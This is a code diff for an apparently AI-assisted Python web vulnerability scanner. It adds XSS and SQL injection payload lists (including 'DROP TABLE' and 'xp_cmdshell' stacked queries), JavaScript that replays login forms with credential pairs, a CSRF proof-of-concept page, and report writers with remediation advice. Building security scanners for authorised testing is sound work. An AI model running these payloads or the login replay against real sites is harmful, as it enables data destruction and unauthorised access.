@@ -16,12 +16,836 @@ import time
 import re
 import json
 import os
+import base64
+import hashlib
+import html
+import queue
+import threading
+import secrets
+import string
+import weakref
+from collections import Counter, OrderedDict
+from concurrent.futures import ThreadPoolExecutor, Future, wait
+from contextlib import contextmanager
+from functools import lru_cache
 from datetime import datetime
-from urllib.parse import urlparse, urljoin, parse_qs, urlencode
-from typing import List, Dict
+from urllib.parse import urlparse, urljoin, parse_qs, urlencode, quote_plus
+from typing import List, Dict, Tuple
 import requests
+from requests.adapters import HTTPAdapter
 from selenium import webdriver
 from selenium.webdriver.common.by import By
+from selenium.webdriver.support.ui import WebDriverWait
+from selenium.webdriver.support import expected_conditions as EC
+from selenium.common.exceptions import (
+    UnexpectedAlertPresentException, StaleElementReferenceException, TimeoutException
+)
+
+# Enhanced XSS payloads
+_XSS_STATIC_PAYLOADS = (
+    # Basic
+    "<script>alert('XSS')</script>",
+    "<img src=x onerror=alert('XSS')>",
+    "<svg onload=alert('XSS')>",
+    
+    # Advanced
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "<img src=x onerror=alert`1`>",
+    "<svg><script>alert&#40;1)</script>",
+    
+    # DOM-based
+    "javascript:alert('XSS')",
+    "<iframe src=javascript:alert('XSS')>",
+    "<body onload=alert('XSS')>",
+    
+    # Filter bypass
+    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
+    "<<SCRIPT>alert('XSS');//<</SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    
+    # Event handlers
+    "<div onmouseover=alert('XSS')>hover</div>",
+    "<input onfocus=alert('XSS') autofocus>",
+    "<select onfocus=alert('XSS') autofocus>",
+    
+    # Encoded
+    "%3Cscript%3Ealert('XSS')%3C/script%3E",
+    "&#60;script&#62;alert('XSS')&#60;/script&#62;",
+    
+    # HTML5
+    "<video src=x onerror=alert('XSS')>",
+    "<audio src=x onerror=alert('XSS')>",
+    
+    # Polyglot
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert('XSS') )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('XSS')//\\x3e",
+)
+
+# Static scenarios appended to every XSS URL parameter test
+_XSS_PARAM_STATIC_SCENARIOS = tuple(
+    {"payload": p, "scenario_id": f"XSS_STATIC_{i:03d}", "type": "XSS"}
+    for i, p in enumerate(_XSS_STATIC_PAYLOADS[:5], 1)
+)
+
+# Fragment payloads for DOM-based XSS
+_XSS_DOM_PAYLOADS = (
+    "#<script>alert('DOM-XSS')</script>",
+    "#<img src=x onerror=alert('DOM-XSS')>",
+    "#javascript:alert('DOM-XSS')"
+)
+
+# Enhanced SQL Injection payloads
+_SQLI_STATIC_PAYLOADS = (
+    # Classic
+    "' OR '1'='1",
+    "' OR '1'='1' --",
+    "' OR '1'='1' /*",
+    "admin' --",
+    "admin' #",
+    
+    # Union-based
+    "' UNION SELECT NULL--",
+    "' UNION SELECT NULL,NULL--",
+    "' UNION SELECT NULL,NULL,NULL--",
+    "' UNION ALL SELECT NULL,NULL,NULL--",
+    
+    # Boolean-based blind
+    "' AND '1'='1",
+    "' AND '1'='2",
+    "' AND SLEEP(5)--",
+    "' OR SLEEP(5)--",
+    
+    # Time-based blind
+    "'; WAITFOR DELAY '0:0:5'--",
+    "' OR pg_sleep(5)--",
+    "' OR BENCHMARK(10000000,MD5('A'))--",
+    
+    # Error-based
+    "' AND 1=CONVERT(int, (SELECT @@version))--",
+    "' AND 1=CAST((SELECT @@version) AS int)--",
+    
+    # Stacked queries
+    "'; DROP TABLE users--",
+    "'; EXEC xp_cmdshell('dir')--",
+    
+    # Advanced bypass
+    "admin'/**/OR/**/'1'='1",
+    "admin' /*!50000OR*/ '1'='1",
+    "admin'--+",
+    "admin'%23",
+)
+
+# SQL error strings that show up in responses to injected queries
+_SQL_ERROR_SIGNATURES = (
+    'sql syntax', 'mysql', 'postgresql', 'ora-', 'sqlite',
+    'syntax error', 'unclosed quotation', 'quoted string',
+    'microsoft ole db', 'odbc', 'jdbc', 'sqlstate',
+    'you have an error in your sql', 'warning: mysql'
+)
+# Case-insensitive so raw response bodies can be scanned without a lowered copy
+_SQL_ERROR_RE = re.compile('|'.join(map(re.escape, _SQL_ERROR_SIGNATURES)), re.IGNORECASE)
+_SQL_ERROR_SIGNATURE_RES = tuple(re.compile(re.escape(sig), re.IGNORECASE) for sig in _SQL_ERROR_SIGNATURES)
+
+# Payloads that are detected by how long the response takes
+_TIME_BASED_RE = re.compile(r'sleep|waitfor|benchmark', re.IGNORECASE)
+
+# Payload families used to share AI analyses between similar findings
+_UNION_RE = re.compile(r'\bunion\b', re.IGNORECASE)
+_BOOLEAN_RE = re.compile(r'\b(?:or|and)\b', re.IGNORECASE)
+
+# Database families in detection priority, one regex group each
+_SQL_DB_TYPES = ('MySQL', 'PostgreSQL', 'Oracle', 'MS SQL Server', 'SQLite')
+_SQL_DB_RE = re.compile(r'(mysql)|(postgres)|(oracle|ora-)|(microsoft|sql server)|(sqlite)', re.IGNORECASE)
+
+# AI scenarios and analyses persisted between runs
+_LLM_CACHE_FILE = 'llm_cache.json'
+_LLM_CACHE_MAX_ENTRIES = 500  # per section, least recently used dropped first
+
+# JSON extraction patterns for LLM responses
+_JSON_ARRAY_RE = re.compile(r'\[.*\]', re.DOTALL)
+_JSON_OBJ_RE = re.compile(r'\{.*\}', re.DOTALL)
+
+# Fills every fillable input with a payload, returning the indices and attributes of those filled
+_FILL_INPUTS_JS = """
+var payload = arguments[1];
+var skip = ['submit', 'button', 'hidden', 'file'];
+var filled = [];
+arguments[0].forEach(function (el, i) {
+    if (skip.indexOf(el.type) >= 0 || el.disabled || el.readOnly)
+        return;
+    el.value = payload;
+    el.dispatchEvent(new Event('input', {bubbles: true}));
+    el.dispatchEvent(new Event('change', {bubbles: true}));
+    filled.push([i, el.getAttribute('name'), el.type]);
+});
+return filled;
+"""
+
+# Sets arguments[0][i].value = arguments[1][i] and fires the events a user edit would
+_SET_VALUES_JS = """
+var values = arguments[1];
+arguments[0].forEach(function (el, i) {
+    el.value = values[i];
+    el.dispatchEvent(new Event('input', {bubbles: true}));
+    el.dispatchEvent(new Event('change', {bubbles: true}));
+});
+"""
+
+# Submits a form the way a click on its submit button would
+_SUBMIT_FORM_JS = """
+var form = arguments[0];
+if (form.requestSubmit)
+    form.requestSubmit();
+else
+    form.submit();
+"""
+
+# Where and how a form submits, read from its attributes; form.action and form.method
+# return an input instead when the form has a field with that name
+_FORM_TARGET_JS = """
+function formAction(form) {
+    var action = form.getAttribute('action');
+    if (!action)
+        return location.href;
+    try { return new URL(action, document.baseURI).href; } catch (e) { return location.href; }
+}
+function formMethod(form) {
+    return (form.getAttribute('method') || '').toLowerCase() === 'post' ? 'POST' : 'GET';
+}
+"""
+
+# Replays the login form's submission once per [username, password] pair in arguments[2]
+# with fetch(), stopping at the first response containing one of the indicators in arguments[3]
+_LOGIN_ATTEMPTS_JS = _FORM_TARGET_JS + """
+var userField = arguments[0], passField = arguments[1];
+var attempts = arguments[2], indicators = arguments[3];
+var done = arguments[arguments.length - 1];
+var form = passField.form;
+var action = form ? formAction(form) : location.href;
+var method = form ? formMethod(form) : 'POST';
+var results = [];
+function next(i) {
+    if (i >= attempts.length)
+        return done(results);
+    var data = form ? new FormData(form) : new FormData();
+    data.set(userField.name, attempts[i][0]);
+    data.set(passField.name, attempts[i][1]);
+    var params = new URLSearchParams(data);
+    var target = action, init = {method: method, credentials: 'include'};
+    if (method === 'GET')
+        target += (target.indexOf('?') === -1 ? '?' : '&') + params;
+    else
+        init.body = params;
+    var start = performance.now();
+    fetch(target, init).then(function (response) {
+        return response.text().then(function (body) {
+            var html = body.toLowerCase();
+            var matches = indicators.filter(function (indicator) { return html.indexOf(indicator) !== -1; });
+            results.push({status: response.status, matches: matches, ms: performance.now() - start});
+            if (matches.length)
+                return done(results);
+            next(i + 1);
+        });
+    }).catch(function (e) {
+        results.push({error: String(e), ms: performance.now() - start});
+        next(i + 1);
+    });
+}
+next(0);
+"""
+
+# Action, method and current field values of the form holding the username and password
+# inputs in arguments[0] and arguments[1], or null when it can't be replayed without a browser
+_LOGIN_FORM_JS = _FORM_TARGET_JS + """
+var userField = arguments[0], passField = arguments[1], form = passField.form;
+if (!form || form !== userField.form || !userField.name || !passField.name)
+    return null;
+var fields = [];
+new FormData(form).forEach(function (value, name) {
+    if (typeof value === 'string' && name !== userField.name && name !== passField.name)
+        fields.push([name, value]);
+});
+return {action: formAction(form), method: formMethod(form),
+        user: userField.name, pass: passField.name, fields: fields};
+"""
+
+# Current document HTML, lowercased
+_LOWER_SOURCE_JS = "return document.documentElement.outerHTML.toLowerCase();"
+
+# Which of the indicators in arguments[0] appear in the lowercased document, in list order
+_PAGE_INDICATORS_JS = """
+var html = document.documentElement.outerHTML.toLowerCase();
+return arguments[0].filter(function (indicator) { return html.indexOf(indicator) !== -1; });
+"""
+
+# True when the marker appears anywhere in the rendered document
+_REFLECTION_JS = "return document.documentElement.outerHTML.indexOf(arguments[0]) !== -1;"
+
+# Time origin of the current document and its server response time (request sent
+# to first response byte) in seconds, or null when the browser has no timing entry
+_NAVIGATION_TIMING_JS = """
+var nav = performance.getEntriesByType('navigation')[0];
+if (!nav || !nav.requestStart || !nav.responseStart)
+    return null;
+return [performance.timeOrigin, (nav.responseStart - nav.requestStart) / 1000];
+"""
+
+# Builds an element's XPath by walking up to the nearest id or <body>
+_XPATH_JS = """
+function getPathTo(element) {
+    var parts = [];
+    while (element !== document.body) {
+        if (element.id !== '') {
+            parts.unshift('id("' + element.id + '")');
+            return parts.join('/');
+        }
+        var ix = 1;
+        for (var s = element.previousElementSibling; s; s = s.previousElementSibling) {
+            if (s.tagName === element.tagName)
+                ix++;
+        }
+        parts.unshift(element.tagName + '[' + ix + ']');
+        element = element.parentNode;
+    }
+    parts.unshift(element.tagName);
+    return parts.join('/');
+}
+"""
+
+# Action, method, id, XPath and inputs of every form on the page, read in one call.
+# token is the index of the first hidden input whose lowercased name contains one of
+# the indicators in arguments[0], with the indicator that matched, or null
+_FORMS_METADATA_JS = _XPATH_JS + """
+var indicators = arguments[0] || [];
+// One pass over a name rules out every indicator before the ordered lookup
+var anyIndicator = indicators.length ? new RegExp(indicators.map(function (indicator) {
+    return indicator.replace(/[.*+?^${}()|[\\]\\\\]/g, '\\\\$&');
+}).join('|')) : null;
+function xpathOf(element) {
+    try { return getPathTo(element); } catch (e) { return 'Unknown'; }
+}
+function actionOf(form) {
+    var action = form.getAttribute('action');
+    if (action === null)
+        return '';
+    try { return new URL(action, document.baseURI).href; } catch (e) { return action; }
+}
+function findToken(inputs) {
+    for (var i = 0; i < inputs.length; i++) {
+        if (inputs[i].type !== 'hidden')
+            continue;
+        var name = (inputs[i].name || '').toLowerCase();
+        if (!anyIndicator || !anyIndicator.test(name))
+            continue;
+        for (var j = 0; j < indicators.length; j++) {
+            if (name.indexOf(indicators[j]) !== -1)
+                return {index: i, indicator: indicators[j]};
+        }
+    }
+    return null;
+}
+return Array.prototype.map.call(document.forms, function (form) {
+    var inputs = form.querySelectorAll('input');
+    return {
+        action: actionOf(form),
+        method: form.getAttribute('method') || '',
+        id: form.getAttribute('id') || '',
+        xpath: xpathOf(form),
+        token: findToken(inputs),
+        inputs: Array.prototype.map.call(inputs, function (input) {
+            return {type: input.type, name: input.name, id: input.id,
+                    value: input.value, xpath: xpathOf(input)};
+        })
+    };
+});
+"""
+
+# Shared by the browsers and the plain HTTP client
+_USER_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'
+
+# Put on a closed WebDriverPool's idle queue to wake threads waiting for a driver
+_POOL_CLOSED = object()
+
+# Cookie fields accepted back by CDP Network.setCookies
+_COOKIE_PARAM_FIELDS = ('name', 'value', 'domain', 'path', 'secure', 'httpOnly', 'sameSite', 'expires')
+
+# Test log text fields that can grow large (driver stack traces, PoC pages, long test URLs)
+# and are cut to _LOG_TEXT_LIMIT characters when logged
+_BOUNDED_LOG_FIELDS = ('error', 'proof_of_concept_html', 'test_url')
+_LOG_TEXT_LIMIT = 4096
+
+# Browser log levels reported as console errors
+_CONSOLE_ERROR_LEVELS = frozenset(('SEVERE', 'WARNING'))
+
+# Asset URLs the probe browsers never download
+_BLOCKED_ASSET_PATTERNS = (
+    '*.woff', '*.woff2', '*.ttf', '*.otf', '*.eot',
+    '*.mp4', '*.webm', '*.ogg', '*.mp3', '*.wav'
+)
+
+# Injected into every document so executed payloads flip a flag instead of opening dialogs
+_XSS_SENTINEL_JS = """
+window.__xss_fired = false;
+window.__xss_msg = null;
+window.alert = window.confirm = window.prompt = function (m) {
+    window.__xss_fired = true;
+    window.__xss_msg = String(m);
+};
+"""
+
+# Fallback scenarios used when AI is unavailable
+_XSS_STATIC_SCENARIOS = (
+    {
+        "scenario_id": "XSS_STATIC_001",
+        "title": "Basic XSS with script tag",
+        "type": "XSS",
+        "payload": "<script>alert('XSS')</script>",
+        "expected_behavior": "Script should be sanitized",
+        "attack_vector": "Direct script injection",
+        "severity": "HIGH"
+    },
+    {
+        "scenario_id": "XSS_STATIC_002",
+        "title": "XSS via img onerror",
+        "type": "XSS",
+        "payload": "<img src=x onerror=alert('XSS')>",
+        "expected_behavior": "Event handler should be stripped",
+        "attack_vector": "Event handler injection",
+        "severity": "HIGH"
+    },
+)
+
+_SQLI_STATIC_SCENARIOS = (
+    {
+        "scenario_id": "SQLI_STATIC_001",
+        "title": "Authentication bypass attempt",
+        "type": "SQL_INJECTION",
+        "payload": "' OR '1'='1' --",
+        "expected_behavior": "Should reject invalid input",
+        "attack_vector": "Boolean-based authentication bypass",
+        "severity": "CRITICAL"
+    },
+    {
+        "scenario_id": "SQLI_STATIC_002",
+        "title": "Union-based data extraction",
+        "type": "SQL_INJECTION",
+        "payload": "' UNION SELECT NULL,NULL,NULL--",
+        "expected_behavior": "Should use parameterized queries",
+        "attack_vector": "Union-based SQL injection",
+        "severity": "CRITICAL"
+    },
+)
+
+
+_SQLI_USERNAME_SELECTOR = 'input[name*="user"], input[name*="email"], input[type="email"], input[name*="login"]'
+_SQLI_SEARCH_SELECTOR = 'input[name*="search"], input[name*="query"], input[name*="q"], input[type="search"]'
+
+# Indicator lists scanned in Python use one regex pass each; the patterns are
+# lookaheads so overlapping indicators are all reported
+
+# Page text that suggests a login went through
+_LOGIN_SUCCESS_INDICATORS = ('dashboard', 'welcome', 'logout', 'profile', 'account', 'logged in')
+_LOGIN_SUCCESS_RE = re.compile('(?=(%s))' % '|'.join(map(re.escape, _LOGIN_SUCCESS_INDICATORS)))
+_DEFAULT_CREDS_SUCCESS_INDICATORS = ('dashboard', 'welcome', 'logout', 'profile', 'account')
+_DEFAULT_CREDS_SUCCESS_RE = re.compile('(?=(%s))' % '|'.join(map(re.escape, _DEFAULT_CREDS_SUCCESS_INDICATORS)))
+
+# Cookie names treated as session cookies ('session' is covered by 'sess')
+_SESSION_COOKIE_RE = re.compile(r'sess|token|auth|sid', re.IGNORECASE)
+
+# HTML scan report, written in pieces around one card per finding; values are HTML-escaped by the caller
+_HTML_REPORT_HEAD = string.Template('''<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="UTF-8">
+    <title>Security Report - $target</title>
+    <style>
+        body { font-family: Arial, sans-serif; max-width: 1100px; margin: 30px auto; padding: 0 20px; background: #f5f5f5; }
+        .summary, .finding { background: white; padding: 15px 20px; margin-bottom: 15px; border-radius: 5px; box-shadow: 0 2px 10px rgba(0,0,0,0.1); }
+        .finding { border-left: 6px solid #6c757d; }
+        .CRITICAL { border-left-color: #dc3545; }
+        .HIGH { border-left-color: #fd7e14; }
+        .MEDIUM { border-left-color: #ffc107; }
+        .LOW { border-left-color: #28a745; }
+        pre { background: #f8f9fa; padding: 10px; overflow-x: auto; white-space: pre-wrap; }
+        img { max-width: 100%; border: 1px solid #ddd; }
+    </style>
+</head>
+<body>
+    <h1>Security Scan Report</h1>
+    <div class="summary">
+        <p><strong>Target:</strong> $target</p>
+        <p><strong>Scan:</strong> $scan_start to $scan_end ($duration s)</p>
+        <p><strong>Tests run:</strong> $total_tests</p>
+        <p><strong>Vulnerabilities:</strong> $total
+            (Critical: $critical, High: $high, Medium: $medium, Low: $low)</p>
+    </div>
+''')
+
+_HTML_REPORT_FINDING = string.Template('''    <div class="finding $severity">
+        <h3>[$severity] $type</h3>
+        <p><strong>Scenario:</strong> $scenario_id &mdash; <strong>Location:</strong> $location</p>
+        <p><strong>URL:</strong> $url</p>
+        <p>$description</p>
+        <p><strong>Proof of concept:</strong></p>
+        <pre>$proof_of_concept</pre>
+        <p><strong>AI analysis:</strong> $analysis</p>
+        <p><strong>Impact:</strong> $impact</p>
+        <p><strong>Remediation:</strong></p>
+        <pre>$remediation</pre>
+$screenshot    </div>
+''')
+
+_HTML_REPORT_TAIL = '''    <p>Raw data for every test attempt is in the JSON report.</p>
+</body>
+</html>
+'''
+
+# Session cookie flag checks: (cookie attribute, scenario tag, test type, screenshot
+# note or None, finding fields shared by every cookie missing the attribute).
+# A missing flag is read straight from the cookie, so its analysis is fixed rather than asked of the AI
+_SESSION_COOKIE_CHECKS = (
+    ('secure', 'SECURE', 'AUTH_SESSION_INSECURE', 'Insecure cookie', {
+        'type': 'Insecure Session Cookie',
+        'severity': 'MEDIUM',
+        'vulnerability_type': 'Missing Secure flag',
+        'description': 'Session cookie "{cookie_name}" missing Secure flag',
+        'proof_of_concept': 'Cookie can be transmitted over HTTP (insecure)',
+        'impact': 'Session tokens can be intercepted over insecure HTTP connections (Man-in-the-Middle attack)',
+        'remediation': 'Set Secure flag on all session cookies to ensure transmission only over HTTPS',
+        'ai_analysis': {
+            'is_vulnerable': True,
+            'confidence': 1.0,
+            'analysis': 'The session cookie is sent over plain HTTP as well as HTTPS, so anyone on the network path can capture it and hijack the session.',
+            'recommendations': ['Set Secure flag on all session cookies to ensure transmission only over HTTPS']
+        }
+    }),
+    ('httpOnly', 'HTTPONLY', 'AUTH_SESSION_NO_HTTPONLY', 'Cookie accessible via JS', {
+        'type': 'Session Cookie Accessible via JavaScript',
+        'severity': 'MEDIUM',
+        'vulnerability_type': 'Missing HttpOnly flag',
+        'description': 'Session cookie "{cookie_name}" missing HttpOnly flag',
+        'proof_of_concept': 'Cookie accessible via document.cookie in JavaScript',
+        'impact': 'XSS attacks can steal session tokens via JavaScript',
+        'remediation': 'Set HttpOnly flag on all session cookies to prevent JavaScript access',
+        'ai_analysis': {
+            'is_vulnerable': True,
+            'confidence': 1.0,
+            'analysis': 'The session cookie is readable from document.cookie, so any XSS on the site can exfiltrate it.',
+            'recommendations': ['Set HttpOnly flag on all session cookies to prevent JavaScript access']
+        }
+    }),
+    ('sameSite', 'SAMESITE', 'AUTH_SESSION_NO_SAMESITE', None, {
+        'type': 'Session Cookie Missing SameSite',
+        'severity': 'LOW',
+        'vulnerability_type': 'Missing SameSite attribute',
+        'description': 'Session cookie "{cookie_name}" missing SameSite attribute',
+        'proof_of_concept': 'Cookie can be sent in cross-site requests',
+        'impact': 'Increases CSRF attack surface, cookie can be sent in cross-origin requests',
+        'remediation': 'Set SameSite=Strict or SameSite=Lax on all session cookies',
+        'ai_analysis': {
+            'is_vulnerable': True,
+            'confidence': 1.0,
+            'analysis': 'Without SameSite the browser attaches the session cookie to cross-site requests, leaving state-changing endpoints exposed to CSRF.',
+            'recommendations': ['Set SameSite=Strict or SameSite=Lax on all session cookies']
+        }
+    })
+)
+
+# Responses to a plain HTTP login that may be a bot challenge rather than the site's answer
+_CHALLENGE_STATUS_CODES = (403, 503)
+
+# Login responses that show the server has stopped accepting attempts; narrower than
+# _LOCKOUT_INDICATORS since it is matched against raw HTML, scripts included
+_LOCKOUT_RESPONSE_RE = re.compile(r'too many|account (?:is )?locked|rate limit|temporarily disabled|try again later')
+
+# Page text showing a password field is validated, matched in the browser
+_PASSWORD_STRENGTH_INDICATORS = (
+    'weak', 'strong', 'minimum', 'length', 'character',
+    'uppercase', 'lowercase', 'number', 'special', 'digit'
+)
+
+# Page text showing repeated failed logins were blocked, matched in the browser
+_LOCKOUT_INDICATORS = (
+    'locked', 'blocked', 'too many', 'rate limit',
+    'captcha', 'suspicious', 'temporarily disabled',
+    'wait', 'try again later'
+)
+
+# CSRF proof-of-concept page around the cloned form's inputs; values are HTML-escaped by the caller
+_CSRF_POC_HEAD = string.Template('''<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="UTF-8">
+    <title>CSRF Proof of Concept - Form #$form_index</title>
+    <style>
+        body {
+            font-family: Arial, sans-serif;
+            max-width: 800px;
+            margin: 50px auto;
+            padding: 20px;
+            background: #f5f5f5;
+        }
+        .warning {
+            background: #fff3cd;
+            border: 2px solid #ffc107;
+            padding: 20px;
+            margin-bottom: 20px;
+            border-radius: 5px;
+        }
+        .form-container {
+            background: white;
+            padding: 20px;
+            border-radius: 5px;
+            box-shadow: 0 2px 10px rgba(0,0,0,0.1);
+        }
+        input, button {
+            margin: 10px 0;
+            padding: 8px;
+            width: 100%;
+            box-sizing: border-box;
+        }
+        button {
+            background: #dc3545;
+            color: white;
+            border: none;
+            cursor: pointer;
+            font-size: 16px;
+        }
+        button:hover {
+            background: #c82333;
+        }
+        .info {
+            background: #d1ecf1;
+            border: 2px solid #0c5460;
+            padding: 15px;
+            margin-top: 20px;
+            border-radius: 5px;
+        }
+    </style>
+</head>
+<body>
+    <div class="warning">
+        <h2>⚠️  CSRF Vulnerability Proof of Concept</h2>
+        <p><strong>Target:</strong> $url</p>
+        <p><strong>Form:</strong> #$form_index</p>
+        <p><strong>Action:</strong> $action</p>
+        <p><strong>Method:</strong> $method</p>
+        <p><strong>Vulnerability:</strong> This form lacks CSRF protection</p>
+    </div>
+    
+    <div class="form-container">
+        <h3>Malicious Form (Identical to Target)</h3>
+        <form action="$action" method="$method" id="csrf_form">
+''')
+
+_CSRF_POC_TAIL = '''            <button type="submit">Submit (Demonstrates CSRF Attack)</button>
+        </form>
+    </div>
+    
+    <div class="info">
+        <h3>How This Attack Works:</h3>
+        <ol>
+            <li>Attacker hosts this HTML page on their server</li>
+            <li>Victim (who is logged into target site) visits attacker's page</li>
+            <li>Form auto-submits OR victim clicks submit button</li>
+            <li>Request is sent to target site with victim's cookies</li>
+            <li>Target site processes request as if victim initiated it</li>
+            <li>Attacker successfully performs action on victim's behalf</li>
+        </ol>
+        
+        <h3>Remediation:</h3>
+        <ul>
+            <li>Add CSRF token to all POST/PUT/DELETE forms</li>
+            <li>Verify token on server side before processing request</li>
+            <li>Use SameSite cookie attribute</li>
+            <li>Implement additional checks (Referer header, custom headers)</li>
+        </ul>
+    </div>
+    
+    <script>
+        // Auto-submit for demonstration (comment out in practice)
+        // document.getElementById('csrf_form').submit();
+    </script>
+</body>
+</html>'''
+
+
+@lru_cache(maxsize=64)
+def url_parameter_templates(url: str) -> Dict[str, Tuple[str, str]]:
+    """Split test URLs around each query parameter's value, parsing and encoding the URL once"""
+    parsed = urlparse(url)
+    # Blank parameters stay in every test URL so the page sees its usual query
+    params = parse_qs(parsed.query, keep_blank_values=True)
+    base = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?"
+    encoded = [urlencode({name: values}, doseq=True) for name, values in params.items()]
+    
+    templates = {}
+    for i, name in enumerate(params):
+        before = '&'.join(encoded[:i] + [quote_plus(name) + '='])
+        after = '&'.join(encoded[i + 1:])
+        templates[name] = (base + before, '&' + after if after else '')
+    return templates
+
+
+@lru_cache(maxsize=256)
+def static_scenarios(id_prefix: str, test_type: str, payloads: Tuple[str, ...]) -> Tuple[Dict, ...]:
+    """Numbered static scenarios, built once per ID prefix and shared read-only"""
+    return tuple(
+        {"payload": p, "scenario_id": f"{id_prefix}_{i:03d}", "type": test_type}
+        for i, p in enumerate(payloads, 1)
+    )
+
+
+def found_indicators(indicators: Tuple[str, ...], pattern, page_source: str) -> List[str]:
+    """Indicators matched by their lookahead alternation pattern, in declaration order"""
+    found = {match.group(1) for match in pattern.finditer(page_source)}
+    return [indicator for indicator in indicators if indicator in found]
+
+
+def bounded_text(text: str, limit: int = _LOG_TEXT_LIMIT) -> str:
+    """text cut to limit characters, noting how many were dropped"""
+    if len(text) <= limit:
+        return text
+    return f'{text[:limit]}...[+{len(text) - limit} chars]'
+
+
+def parse_set_cookie(header: str) -> Dict:
+    """Cookie from a Set-Cookie header, with the same fields the browser reports"""
+    name_value, *attributes = header.split(';')
+    name, _, value = name_value.partition('=')
+    cookie = {'name': name.strip(), 'value': value.strip(), 'secure': False, 'httpOnly': False}
+    for attribute in attributes:
+        key, _, attribute_value = attribute.strip().partition('=')
+        key = key.lower()
+        if key == 'secure':
+            cookie['secure'] = True
+        elif key == 'httponly':
+            cookie['httpOnly'] = True
+        elif key == 'samesite':
+            cookie['sameSite'] = attribute_value.strip().capitalize()
+        elif key in ('domain', 'path'):
+            cookie[key] = attribute_value.strip()
+    return cookie
+
+
+def same_page(url: str, other: str) -> bool:
+    """Same scheme, host and path, ignoring a trailing slash, query and fragment"""
+    a, b = urlparse(url), urlparse(other)
+    return (a.scheme, a.netloc.lower(), a.path.rstrip('/')) == (b.scheme, b.netloc.lower(), b.path.rstrip('/'))
+
+
+def elapsed_seconds(start_ns: int) -> float:
+    """Seconds since a time.perf_counter_ns() reading"""
+    return (time.perf_counter_ns() - start_ns) / 1e9
+
+
+def submit_wait_timeout(payload: str) -> float:
+    """Time-based payloads need the wait to outlast the 4s detection threshold"""
+    return 6 if _TIME_BASED_RE.search(payload) else 2
+
+
+def payload_class(payload) -> str:
+    """Bucket a payload into 'time', 'union', 'boolean' or 'error'"""
+    payload = str(payload or '')
+    if _TIME_BASED_RE.search(payload):
+        return 'time'
+    if _UNION_RE.search(payload):
+        return 'union'
+    if _BOOLEAN_RE.search(payload):
+        return 'boolean'
+    return 'error'
+
+
+def is_time_based_hit(payload: str, load_time: float) -> bool:
+    """A time-based payload whose response took longer than the injected delay threshold"""
+    return bool(_TIME_BASED_RE.search(payload)) and load_time > 4
+
+
+def fill_url_template(template: Tuple[str, str], value) -> str:
+    """Test URL with the value quoted the same way urlencode would"""
+    return template[0] + quote_plus(str(value)) + template[1]
+
+
+def url_parameter_infos(params: Dict) -> List[Dict]:
+    """Element descriptions for URL query parameters"""
+    return [
+        {
+            'type': 'url_parameter',
+            'name': param_name,
+            'current_value': param_values[0]
+        }
+        for param_name, param_values in params.items()
+    ]
+
+
+def report_finding(vuln: Dict) -> Dict:
+    """Finding as written to the JSON report, pointing at its logged test attempt by number
+    instead of repeating the log already written under all_test_attempts"""
+    test_number = vuln.get('test_details', {}).get('test_number')
+    if test_number is None:
+        return vuln
+    finding = {key: value for key, value in vuln.items() if key != 'test_details'}
+    finding['test_number'] = test_number
+    return finding
+
+
+def write_json_report(filename: str, report: Dict):
+    """Write the report item by item, one top-level key and one list item per line.
+    Compact dumps run on json's C encoder, which indent= would bypass"""
+    with open(filename, 'w') as f:
+        f.write('{')
+        for i, (key, value) in enumerate(report.items()):
+            f.write(',\n' if i else '\n')
+            f.write(json.dumps(key) + ': ')
+            if isinstance(value, list):
+                f.write('[')
+                for j, item in enumerate(value):
+                    f.write(',\n  ' if j else '\n  ')
+                    f.write(json.dumps(item))
+                f.write('\n]' if value else ']')
+            else:
+                f.write(json.dumps(value))
+        f.write('\n}\n')
+
+
+def write_html_report(filename: str, report: Dict, all_vulnerabilities: Dict[str, List[Dict]]):
+    """Write the HTML report one finding at a time instead of building the page in memory"""
+    scan_info, summary = report['scan_info'], report['summary']
+    with open(filename, 'w', encoding='utf-8') as f:
+        f.write(_HTML_REPORT_HEAD.substitute(
+            target=html.escape(scan_info['target_url']),
+            scan_start=scan_info['scan_start'],
+            scan_end=scan_info['scan_end'],
+            duration=f"{scan_info['duration_seconds']:.1f}",
+            total_tests=scan_info['total_tests'],
+            total=summary['total_vulnerabilities'],
+            critical=summary['critical'],
+            high=summary['high'],
+            medium=summary['medium'],
+            low=summary['low']
+        ))
+        
+        for category, vulns in all_vulnerabilities.items():
+            if not vulns:
+                continue
+            f.write(f'    <h2>{html.escape(category.replace("_", " ").upper())} ({len(vulns)})</h2>\n')
+            for vuln in vulns:
+                screenshot = vuln.get('screenshot')
+                analysis = vuln.get('ai_analysis') or {}
+                f.write(_HTML_REPORT_FINDING.substitute(
+                    severity=html.escape(str(vuln.get('severity', 'INFO'))),
+                    type=html.escape(str(vuln.get('type', ''))),
+                    scenario_id=html.escape(str(vuln.get('scenario_id', ''))),
+                    location=html.escape(str(vuln.get('location', ''))),
+                    url=html.escape(str(vuln.get('url', ''))),
+                    description=html.escape(str(vuln.get('description', ''))),
+                    proof_of_concept=html.escape(str(vuln.get('proof_of_concept', ''))),
+                    analysis=html.escape(str(analysis.get('analysis', ''))),
+                    impact=html.escape(str(vuln.get('impact', ''))),
+                    remediation=html.escape(str(vuln.get('remediation', ''))),
+                    screenshot=f'        <img src="{html.escape(screenshot)}" alt="Screenshot">\n' if screenshot else ''
+                ))
+        
+        f.write(_HTML_REPORT_TAIL)
 
 
 class LLMManager:
@@ -30,12 +854,30 @@ class LLMManager:
     def __init__(self):
         self.ollama_url = "http://localhost:11434/api/generate"
         self.model = "llama3.1"
+        
+        # Keep-alive session so repeated Ollama calls reuse one connection
+        self.session = requests.Session()
+        self.session.headers['Connection'] = 'keep-alive'
+        adapter = HTTPAdapter(pool_connections=8, pool_maxsize=16)
+        self.session.mount('http://', adapter)
+        self.session.mount('https://', adapter)
+        
+        # Generated scenarios keyed by (test type, element) fingerprint and
+        # analyses keyed by finding class, both shared across runs via disk
+        self._scenario_cache = OrderedDict()
+        self._analysis_cache = OrderedDict()
+        self._cache_dirty = False
+        self._load_cache()
+        
